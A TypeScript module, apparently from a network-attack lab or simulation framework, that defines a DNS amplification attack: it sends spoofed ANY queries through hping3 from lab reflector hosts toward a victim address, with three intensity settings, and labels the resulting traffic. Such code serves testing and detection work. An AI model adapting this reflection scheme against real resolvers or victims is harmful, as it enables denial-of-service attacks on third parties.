import type { Attack, Intensity } from '../contracts.ts';
import { siteAddresses } from '../layout.ts';
import { anyQuestion } from '../programs/large-answers.ts';
import type { HpingPlan } from './hping.ts';
import { reflect } from './reflection.ts';

/** For each of the reflectors; an answer of 3 kB is three fragments. */
const plans: Readonly<Record<Intensity, HpingPlan & { readonly reflectors: number }>> = {
  quiet: { reflectors: 4, packetsPerSecond: 0.7, mostPackets: 50 },
  medium: { reflectors: 12, packetsPerSecond: 6, mostPackets: 100 },
  loud: { reflectors: 24, packetsPerSecond: 30, mostPackets: 200 },
};
const dnsPort = 53;
/** None the victim asks from itself. */
const victimPort = 21_053;

/** Only the answers come by: the questions were sent elsewhere, in the victim's name. */
export const dnsAmplification: Attack = {
  kind: 'dns-amplification',
  summary: 'large DNS answers from many open resolvers that the victim never asked',
  needs: ['hping3'],
  intensities: ['quiet', 'medium', 'loud'],
  actor: 'attacker',
  targets: ['server'],
  async run(order) {
    const { lab, intensity, targets } = order;
    const plan = plans[intensity];
    const victim = targets[0]?.address ?? '';
    const half = plan.reflectors / 2;
    const reflectors = ['web', 'cdn'].map(
      name => [lab.host(name), siteAddresses(name).slice(0, half)] as const,
    );
    const called = await reflect(order, {
      kind: 'dns',
      servicePort: dnsPort,
      reflectors,
      question: anyQuestion(0x4f44, 'example.com'),
      victim,
      victimPort,
      plan,
    });
    const between = { actors: reflectors.flatMap(([, addresses]) => addresses), targets: [victim] };
    return {
      tool: 'hping3',
      arguments: called,
      claims: [
        { ...between, protocol: 'udp' },
        { ...between, protocol: 'icmp' },
      ],
    };
  },
};
